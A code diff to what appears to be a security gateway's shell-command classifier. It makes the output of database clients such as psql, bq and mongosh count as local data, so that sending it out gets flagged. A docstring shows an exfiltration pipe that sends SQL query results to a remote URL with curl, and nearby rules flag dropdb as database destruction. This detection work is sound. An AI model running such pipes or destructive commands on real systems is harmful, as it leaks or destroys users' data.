@@ -25,7 +25,7 @@ from collections.abc import Callable
 
 from gateway.shell import categories as cat
 from gateway.shell import compose, databases, lexicon
-from gateway.shell.flow import OPAQUE, Flow
+from gateway.shell.flow import LOCAL_DATA, OPAQUE, Flow
 from gateway.shell.generic import default_handler
 from gateway.shell.invocation import Handler, Invocation
 from gateway.shell.processes import DAEMONS as _DAEMONS
@@ -364,6 +364,17 @@ def _handler(judge: Callable[[Invocation], str | None]) -> Handler:
     return with_judges(default_handler, judge)
 
 
+def _database_client(judge: Callable[[Invocation], str | None]) -> Handler:
+    """A database client: judged like any program, and what it prints is the database's data — sent away
+    (`psql -c 'SELECT …' | curl --data-binary @- https://…`) as a local file's content would be."""
+    handle = _handler(judge)
+
+    def client(call: Invocation) -> Flow:
+        return handle(call).merge(LOCAL_DATA)
+
+    return client
+
+
 _STEAM_UPLOADS = frozenset({"+run_app_build", "+run_app_build_http", "+run_workshop_build", "+workshop_build_item",
                             "+build_depot"})
 
@@ -381,12 +392,12 @@ INFRA: dict[str, Handler] = {
                      "cqlsh", "snowsql", "bq-shell", "trino", "presto", "usql", "litecli", "pgcli", "mycli", "vsql",
                      "isql", "sqlplus", "db2", "mongosh-sql", "spark-sql", "beeline", "hive", "impala-shell",
                      "clickhouse", "turso", "libsql", "psql.exe", "bteq", "tdsql", "nzsql", "dbisql"],
-                    _handler(databases.sql_client)),
+                    _database_client(databases.sql_client)),
     **dict.fromkeys(["impdp", "imp", "bcp"], _handler(databases.bulk_load)),
     "influx": _handler(lambda call: _influx(call) or databases.sql_client(call)),
     **dict.fromkeys(["pg_restore", "mongorestore"], _handler(databases.restore)),
-    "bq": _handler(databases.bq),
-    **dict.fromkeys(["mongosh", "mongo"], _handler(databases.mongo)),
+    "bq": _database_client(databases.bq),
+    **dict.fromkeys(["mongosh", "mongo"], _database_client(databases.mongo)),
     "dropdb": _handler(lambda call: cat.DATABASE_DESTROY),
     "mysqladmin": _handler(lambda call: cat.DATABASE_DESTROY if "drop" in words(call) else None),
     **dict.fromkeys(["rails", "rake", "prisma"], _handler(databases.framework_db)),
